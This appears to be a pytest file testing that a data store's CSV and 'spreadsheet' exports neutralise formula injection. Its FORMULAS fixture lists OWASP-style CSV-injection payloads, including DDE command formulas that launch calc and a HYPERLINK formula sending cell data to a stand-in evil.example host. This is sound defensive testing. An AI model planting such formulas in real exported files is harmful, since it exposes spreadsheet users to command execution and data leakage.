"""CSV has the data unchanged for programs, and no formulas if it is requested for a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pandas as pd
import pytest
import requests
from hypothesis import given
from hypothesis import strategies as st

from bsv_store.server.data.tables import csv_bytes
from bsv_store.text import spreadsheet_cell
from tests.cli.running import Runner
from tests.datasets.world import ask
from tests.security.source import calls
from tests.server.serving import serving

if TYPE_CHECKING:
    from bsv_store import Store

# From the OWASP page on CSV injection, and what else begins a formula or a command in spreadsheets.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
)
PLAIN = ("", "a", "VISp", "a=b", "'quoted'", " =1", "100 %", "Cux2-IRES-Cre", "ü", 'say "x", y')


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Runner:
    return Runner(capsys, monkeypatch)


@given(st.text(), st.sampled_from(FORMULAS))
def test_no_text_is_a_formula_and_all_can_be_read_back(text: str, start: str) -> None:
    for each in (text, start, start + text):
        found = spreadsheet_cell(each)
        assert isinstance(found, str)
        assert not found.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
        assert found == each or found == f"'{each}"


@pytest.mark.parametrize("value", [*PLAIN, -1.5, -3, None, True])
def test_other_values_are_unchanged(value: object) -> None:
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
def test_the_command_line_writes_both(filled: Store, run: Runner) -> None:
    for text in FORMULAS:
        arguments = ("sql", "select :a as text, -1.5 as number", "--param", f"a={text}", "--format")
        raw = run(*arguments, "csv", store=filled.path).succeeded()
        assert list(csv.reader(io.StringIO(raw.out, newline="")))[1] == [text, "-1.5"]
        safe = run(*arguments, "spreadsheet", store=filled.path).succeeded()
        assert list(csv.reader(io.StringIO(safe.out, newline="")))[1] == [f"'{text}", "-1.5"]
    heading = run("sql", 'select 1 as "=1+1"', "--format", "spreadsheet", store=filled.path).succeeded()
    assert heading.out.startswith("'=1+1\n")


@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
def test_the_server_writes_both(filled: Store) -> None:
    with serving(filled) as url:
        replies = [requests.get(f"{url}/v1/experiments?format={name}", timeout=20) for name in ("csv", "spreadsheet")]
        assert {(each.status_code, each.headers["content-type"]) for each in replies} == {
            (200, "text/csv; charset=utf-8")
        }
        # Without formulas they are the same.
        assert replies[0].content == replies[1].content
        for text in FORMULAS:
            body: dict[str, Any] = {"statement": "select :a as text, -1.5 as number", "parameters": {"a": text}}
            reply = requests.post(f"{url}/v1/sql", json=body, headers={"Accept": "text/csv"}, timeout=20)
            assert list(csv.reader(io.StringIO(reply.content.decode(), newline="")))[1] == [text, "-1.5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_table_for_spreadsheets_has_no_formulas(text: str) -> None:
    frame = pd.DataFrame({"=1": [text, None, "a"], "number": [-1.5, 2.0, 3.0], "mixed": [text, -1, None]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame, for_spreadsheet=True).decode(), newline="")))
    assert rows == [["'=1", "number", "mixed"], [f"'{text}", "-1.5", f"'{text}"], ["", "2.0", "-1"], ["a", "3.0", ""]]


def test_the_table_of_a_server_is_loaded_bit_for_bit() -> None:
    frame = pd.DataFrame({"text": [*FORMULAS, "a", "b"], "number": [-1.5] * (len(FORMULAS) + 2)})
    found = pd.read_csv(io.BytesIO(csv_bytes(frame)), keep_default_na=False)
    # A carriage return in a quoted field stays one.
    assert found["text"].tolist() == frame["text"].tolist()
    assert found["number"].tolist() == frame["number"].tolist()


@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
def test_exported_files_are_data(filled: Store, tmp_path: Path) -> None:
    version = ask(filled)
    path = version.export(tmp_path / "a.csv")
    assert pd.read_csv(path)["experiment_id"].tolist() == version.members["experiment_id"].tolist()


def test_every_writer_of_csv_is_known() -> None:
    # Add a new one to the table of SECURITY.md, and to a test in this file.
    writers = {path for path, name, _ in calls() if name.endswith(("csv.writer", ".to_csv", "DictWriter"))}
    assert writers == {
        "bsv_store/compat/metadata.py",
        "bsv_store/datasets/share/bundle.py",
        "bsv_store/datasets/share/export.py",
        "bsv_store/server/data/tables.py",
        "bsv_store/server/images/routes.py",
        "cli/bsv_store_cli/output/formats.py",
    }
